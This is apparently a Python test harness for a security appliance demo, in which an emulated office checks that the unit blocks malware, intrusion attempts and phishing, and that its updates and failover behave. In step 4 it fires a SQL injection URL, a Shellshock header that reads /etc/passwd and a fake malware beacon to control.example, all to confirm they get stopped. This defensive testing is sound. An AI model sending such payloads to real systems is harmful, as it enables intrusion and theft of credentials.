"""The twelve things the demo shows, each a method that returns its evidence or raises StepFailed with what was seen."""

import contextlib
import email
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from email.policy import SMTP
from zoneinfo import ZoneInfo

from lab.demo.artifacts import BROKEN, FIRST, NEW_PACK, NEWLY_LISTED, NEXT, Artifacts
from lab.demo.cloud import Cloud
from lab.demo.office import ATTACKER, INFECTED_MAIL, ORDINARY_MAIL, WEB, Fetched, Office, Pinger, join
from lab.demo.report import Report, StepFailed
from lab.demo.unit import Unit
from lab.namespaces import end, wait_until
from lab.services import pppoe
from lab.services.web import AFTER, BEFORE, EICAR, infected

PHISHING = "phish-bank.example"
TIMEZONE = "Asia/Tokyo"
SHARE = 0.2
"""What an update that changes little may cost the line, of a whole image."""


class Demo:
    """The office, the unit, the fleet, and the steps in order."""

    def __init__(
        self,
        report: Report,
        artifacts: Artifacts,
        office: Office,
        unit: Unit,
        cloud: Cloud,
        stack: contextlib.ExitStack,
    ) -> None:
        self.report, self.artifacts, self.office, self.unit, self.cloud = (
            report,
            artifacts,
            office,
            unit,
            cloud,
        )
        self._stack = stack
        self._ordered = time.monotonic()

    def steps(self) -> list[tuple[str, Callable[[], str]]]:
        """Title and step, in the order they are played."""
        return [
            ("Image built and signed, unit booted, activated, online", self.online),
            ("An ordinary page, a mail and a 50 MB file pass unchanged", self.passes),
            ("EICAR over HTTP and by mail arrives neutralised, the rest intact", self.neutralises),
            ("Attacks from outside and a malware call from inside are blocked", self.blocks),
            ("A phishing domain is blocked by DNS, Host and SNI", self.guards),
            ("All that is in the database and on the portal, with the right host", self.tells),
            ("A new signature pack blocks at once; a running download continues", self.new_pack),
            ("A firmware update waits for its window, reboots and commits", self.updates),
            ("Swapped cables, empty LAN and PPPoE-fronted unit are named", self.names_miswiring),
            ("With every unit process killed, traffic still flows", self.fails_open),
            ("The fleet stopped for a minute: no event is missing", self.survives_fleet_outage),
            ("Broken firmware fell back by itself meanwhile and is reported", self.fell_back),
        ]

    # --- 1

    def online(self) -> str:
        """Boot, press the button, wait for presence; then the office's hosts come up."""
        self.unit.plugged()
        booted = self.unit.wait_for_ssh()
        self.cloud.wait_for_portal()
        self.cloud.not_yet_activated()
        self.unit.press_button()
        took = wait_for("the unit to come online", self.cloud.is_online, seconds=90)
        self._order_firmware(NEXT)
        self.unit.wait_for_processes()
        join(self.office, self._stack)
        self.inspecting()
        size = self.artifacts.images[FIRST].bundle.stat().st_size / 1e6
        return f"bundle {size:.0f} MB signed; SSH {booted:.0f} s after power-on; online {took:.0f} s after the button; firmware {self.cloud.unit()['firmware']}"

    # --- 2

    def passes(self) -> str:
        page = self.office.curl("keiri-pc", "http://www.example/")
        if page.status != 200 or b"ordinary page" not in page.body:
            raise StepFailed(f"page: curl exit {page.exit_code}, status {page.status}")
        if self.office.fetch_mail("keiri-pc", 1) != ORDINARY_MAIL:
            raise StepFailed("the ordinary mail arrived altered, or not at all")
        began = time.monotonic()
        if not self.office.finished(self.office.download("keiri-pc", 50), 50, seconds=240):
            raise StepFailed("the 50 MB file arrived altered")
        took = time.monotonic() - began
        return f"page 200; mail of {len(ORDINARY_MAIL):,} bytes as sent; 50 MB with equal SHA-256 in {took:.1f} s through the emulated unit"

    # --- 3

    def neutralises(self) -> str:
        got = self.office.curl("eigyo-pc", "http://www.example/report.txt").body
        sent = infected()
        if EICAR in got:
            raise StepFailed("the test virus arrived whole")
        if len(got) != len(sent) or got[: len(BEFORE)] != BEFORE:
            raise StepFailed(
                f"{len(got)} bytes of {len(sent)} arrived, or the part before the virus is altered"
            )
        wiped = sum(a != b for a, b in zip(got, sent, strict=True))
        return f"{len(got):,} bytes as sent: {len(BEFORE):,} before the virus intact, {wiped:,} of {len(EICAR + AFTER):,} from it on overwritten; {self._mail_neutralised()}"

    def _mail_neutralised(self) -> str:
        """Delivered, every header and text as sent, and the attachment can still be unpacked: only the virus is gone."""
        got = self.office.fetch_mail("eigyo-pc", 2)
        sent, arrived = (email.message_from_bytes(raw, policy=SMTP) for raw in (INFECTED_MAIL, got))
        if len(got) != len(INFECTED_MAIL) or arrived.items() != sent.items():
            raise StepFailed(
                f"{len(got)} bytes of a mail of {len(INFECTED_MAIL)} arrived, or its headers are altered"
            )
        (text, attached), (text_sent, attached_sent) = (list(mail.iter_parts()) for mail in (arrived, sent))
        file = attached.get_content()
        if (
            text.get_content() != text_sent.get_content()
            or EICAR in file
            or attached.items() != attached_sent.items()
        ):
            raise StepFailed("the mail's text is altered, or the virus arrived in its attachment")
        return f"mail of {len(got):,} bytes delivered, its attachment of {len(file):,} bytes unpacks, without the virus"

    # --- 4

    def blocks(self) -> str:
        nas = self.office.address_of("nas")
        attempts = {
            "SQL injection": (
                "internet",
                "--interface",
                ATTACKER,
                f"http://{nas}/item?id=1%20UNION%20SELECT%20password%20FROM%20users",
            ),
            "Shellshock": (
                "internet",
                "--interface",
                ATTACKER,
                "-A",
                "() { :; }; /bin/cat /etc/passwd",
                f"http://{nas}/cgi-bin/status",
            ),
            "C&C call": ("keiri-pc", "-A", "ghost-beacon/2", "-d", "id=1", "http://control.example/gate.php"),
        }
        if not self.office.curl("internet", "--interface", ATTACKER, f"http://{nas}/").arrived:
            raise StepFailed("the server inside cannot be reached at all")
        got = {name: self.office.curl(*words, seconds=20) for name, words in attempts.items()}
        return f"{_stopped(got)}; the same server answers an ordinary request"

    # --- 5

    def guards(self) -> str:
        curl, here = (
            self.office.curl,
            ("--resolve", f"{PHISHING}:80:{WEB}", "--resolve", f"{PHISHING}:443:{WEB}"),
        )
        got = {
            "by DNS": curl("eigyo-pc", f"http://{PHISHING}/", seconds=20),
            "by Host": curl("eigyo-pc", *here, f"http://{PHISHING}/", seconds=20),
            "by SNI": curl("eigyo-pc", *here, f"https://{PHISHING}/", seconds=20),
        }
        allowed = curl("eigyo-pc", "https://www.example/")
        if not allowed.arrived:
            raise StepFailed(f"another site by TLS: {allowed.outcome}")
        return f"{PHISHING} {_stopped(got)}; www.example by TLS: {allowed.status}"

    # --- 6

    def tells(self) -> str:
        wanted = {
            "SQL injection": "nas", "Shellshock": "nas", "Ghost RAT": "keiri-pc", "Eicar": "eigyo-pc", PHISHING: "eigyo-pc",
        }  # fmt: skip
        took = wait_for(
            "all detections to be in the database",
            lambda: not self._missing(wanted),
            seconds=10,
            what=lambda: f"no {self._missing(wanted)} among {self._told()}",
        )
        page = self.cloud.portal_text("ja", "detections")
        absent = [host for host in set(wanted.values()) if host not in page]
        if absent:
            raise StepFailed(f"the portal does not name {absent}")
        stored = self.cloud.detections()
        return f"{len(stored)} detections, each with its host, {took:.1f} s after the last; the Japanese portal page names {', '.join(sorted(set(wanted.values())))}"

    def _told(self) -> list[str]:
        return [f"{d['signature']} at {d.get('host_name') or 'no host'}" for d in self.cloud.detections()]

    def _missing(self, wanted: dict[str, str]) -> list[str]:
        stored = self.cloud.detections()
        texts = [(f"{d['signature']} {d['detail']} {d['reason']}", d.get("host_name", "")) for d in stored]
        return [
            f"{word} at {host}"
            for word, host in wanted.items()
            if not any(word in text and host == name for text, name in texts)
        ]

    # --- 7

    def new_pack(self) -> str:
        url = f"http://{NEWLY_LISTED}/"
        if not self.office.curl("keiri-pc", url).arrived:
            raise StepFailed(f"{NEWLY_LISTED} was not allowed before")
        running, began = self.office.paced("eigyo-pc", "1M"), time.monotonic()
        self._stack.callback(end, running.process)
        self.cloud.roll_out("pack", NEW_PACK)
        applied = "the unit to report the new pack"
        wait_for(applied, lambda: self.cloud.unit()["pack"] == NEW_PACK, seconds=120)
        took, size = time.monotonic() - began, running.size
        blocked = self.office.curl("keiri-pc", url, seconds=20)
        wait_for("the download to go on", lambda: running.size > size + 3_000_000, seconds=60)
        size = running.size
        if not blocked.stopped or not running.stop():
            raise StepFailed(
                f"{NEWLY_LISTED}: {blocked.outcome}; or the running download broke or was altered"
            )
        return f"pack {NEW_PACK} in force {took:.0f} s after the order; {NEWLY_LISTED}: {blocked.outcome}; a download across the swap went on, {size / 1e6:.0f} MB without a wrong byte"

    # --- 8

    def _order_firmware(self, version: str) -> None:
        """Early, with the window hours away: it is staged in the background while other things are shown."""
        self.cloud.set_window(*_window(timedelta(hours=6)))
        self.cloud.roll_out("firmware", version)
        self._ordered = time.monotonic()

    def _staged(self, version: str) -> bool:
        update = self.cloud.update()
        return bool(update["phase"] == "staged" and update["version"] == version)

    def updates(self) -> str:
        wait_for(f"{NEXT} to be staged", lambda: self._staged(NEXT), seconds=180, what=self.cloud.update)
        if self.cloud.unit()["firmware"] != FIRST:
            raise StepFailed(f"{NEXT} did not wait for its window: {self.cloud.update()}")
        cost, size = self.unit.fetched(), self.artifacts.images[NEXT].bundle.stat().st_size
        if not 0 < cost <= SHARE * size:
            raise StepFailed(f"{cost:,} bytes fetched of {size:,}, not a fifth at most")
        pinger, waited = Pinger(self.office, "keiri-pc"), time.monotonic() - self._ordered
        self.cloud.set_window(*_window(timedelta()))
        committed = f"{NEXT} to be committed"
        took = wait_for(committed, lambda: self._runs(NEXT), seconds=300, what=self.cloud.update)
        replies, gap = pinger.stop()
        opened = self.cloud.unit()["want"]["window"]["start"]
        self._order_firmware(BROKEN)
        return f"ordered {waited:.0f} s before, {cost / 1e6:.1f} of {size / 1e6:.0f} MB fetched, staged, no reboot outside the window; customer moved the window to {opened} ({TIMEZONE}), now; {NEXT} committed by the booted, healthy slot {took:.0f} s later; longest silence of {replies} pings {gap:.0f} s under emulation"

    def _runs(self, version: str) -> bool:
        unit, update = self.cloud.unit(), self.cloud.update()
        return bool(unit["firmware"] == version and update["phase"] == "committed")

    # --- 9

    def names_miswiring(self) -> str:
        router, hub = self.office.taps
        found = [
            self._diagnosed("PORTS_SWAPPED", lambda: self.unit.rewire(hub, router)),
            self._diagnosed("NO_HOSTS_BEHIND", self._empty_office),
        ]
        with pppoe.session(self.office):
            found.append(self._diagnosed("PPPOE_UPSTREAM", lambda: None))
        self.office.hosts_up(up=True)
        took = wait_for("the diagnosis to be OK again", lambda: self.cloud.wiring() == ["OK"], seconds=180)
        return "; ".join(found) + f"; OK again after {took:.0f} s"

    def _diagnosed(self, code: str, miswire: Callable[[], None]) -> str:
        miswire()
        took = wait_for(code, lambda: code in self.cloud.wiring()[:1], seconds=120, what=self.cloud.wiring)
        return f"{code} in {took:.0f} s"

    def _empty_office(self) -> None:
        self.office.hosts_up(up=False)
        self.unit.forget_hosts()
        self.unit.rewire(*self.office.taps)

    # --- 10

    def fails_open(self) -> str:
        running = self.office.download("keiri-pc", 14, rate="2M")
        time.sleep(1)
        try:
            self.unit.kill_processes()
            page = self.office.curl("eigyo-pc", "http://www.example/")
            whole = self.office.finished(running, 14, seconds=60)
        finally:
            self.unit.start_processes()
        if not page.arrived or not whole:
            raise StepFailed(f"page exit {page.exit_code}, running download whole: {whole}")
        self.inspecting()
        return "page 200 and a running 14 MB download whole with bridge, lan, agent and usage ended by SIGKILL; blocking again after their restart"

    # --- 11

    def survives_fleet_outage(self) -> str:
        """Made harder: in that minute the unit also tries a firmware that panics, and comes back from it alone."""
        wait_for(f"{BROKEN} to be staged", lambda: self._staged(BROKEN), seconds=240, what=self.cloud.update)
        before, boot = len(self.cloud.detections()), self.unit.guest.boot_id()
        self.cloud.apply_now()
        wait_for("the unit to restart", lambda: not self.cloud.is_online(), seconds=60)
        self.cloud.stop_link()
        began = time.monotonic()
        self.unit.guest.wait_for_reboot(boot)
        self.inspecting()
        self._attack("outage", 12)
        time.sleep(max(0.0, began + 60 - time.monotonic()))
        self.cloud.start_link()
        down = time.monotonic() - began
        took = wait_for(
            "the events of the outage",
            lambda: len(self._outage()) >= 12,
            seconds=120,
            what=lambda: sorted(self._outage()),
        )
        if len(self._outage()) != 12:
            raise StepFailed(f"stored {len(self._outage())} of 12")
        return f"broker and fleet down for {down:.0f} s; 12 of 12 events stored {took:.0f} s after the restart ({before} before), none twice"

    def _attack(self, name: str, times: int) -> None:
        nas = self.office.address_of("nas")
        attack = f"http://{nas}/{name}-%d?id=1%%20UNION%%20SELECT%%20password%%20FROM%%20users"
        from_outside = ("internet", "--interface", ATTACKER)
        _stopped({str(n): self.office.curl(*from_outside, attack % n, seconds=20) for n in range(times)})

    def _outage(self) -> set[str]:
        stored = [d["detail"] for d in self.cloud.detections() if "/outage-" in d["detail"]]
        if len(stored) != len(set(stored)):
            raise StepFailed("an event is stored twice")
        return set(stored)

    # --- 12

    def fell_back(self) -> str:
        wait_for("the failure to be reported", self._failed, seconds=120, what=self.cloud.update)
        unit, update = self.cloud.unit(), self.cloud.update()
        if unit["firmware"] != NEXT:
            raise StepFailed(f"the unit runs {unit['firmware']} and not {NEXT}")
        return f"{BROKEN} failed ({update['error']}), reported once the fleet was back; the unit runs {unit['firmware']} and inspects"

    def _failed(self) -> bool:
        update = self.cloud.update()
        return bool(update["phase"] == "failed" and update["version"] == BROKEN)

    # --- all

    def inspecting(self) -> None:
        """Wait until the engine blocks its phishing domain and lets another page through."""
        wait_until(
            lambda: not self._reaches_phishing() and self.office.curl("nas", f"http://{WEB}/").arrived,
            seconds=120,
            what="the engine to inspect",
        )

    def _reaches_phishing(self) -> bool:
        here = ("--resolve", f"{PHISHING}:80:{WEB}", f"http://{PHISHING}/probe")
        return self.office.curl("nas", *here, seconds=2).arrived


def wait_for(
    name: str, holds: Callable[[], bool], *, seconds: float, what: Callable[[], object] | None = None
) -> float:
    """Seconds until it holds. Raises StepFailed with what was seen instead."""
    began = time.monotonic()
    try:
        wait_until(holds, seconds=seconds, what=name, step=0.3)
    except TimeoutError as error:
        raise StepFailed(f"{error}; seen: {what() if what else 'nothing'}") from error
    return time.monotonic() - began


def _stopped(attempts: dict[str, Fetched]) -> str:
    """How the unit stopped each of them. Raises StepFailed where it did not say so."""
    text = ", ".join(f"{name}: {got.outcome}" for name, got in attempts.items())
    if not all(got.stopped for got in attempts.values()):
        raise StepFailed(f"not all were stopped: {text}")
    return text


def _window(ahead: timedelta) -> tuple[str, list[int], str, str]:
    """A window of half an hour that opens at the last full minute at or before now + `ahead`: (zone, weekdays, start, end)."""
    opens = (datetime.now(UTC) + ahead).replace(second=0, microsecond=0).astimezone(ZoneInfo(TIMEZONE))
    closes = opens + timedelta(minutes=30)
    return TIMEZONE, [opens.isoweekday()], f"{opens:%H:%M}", f"{closes:%H:%M}"
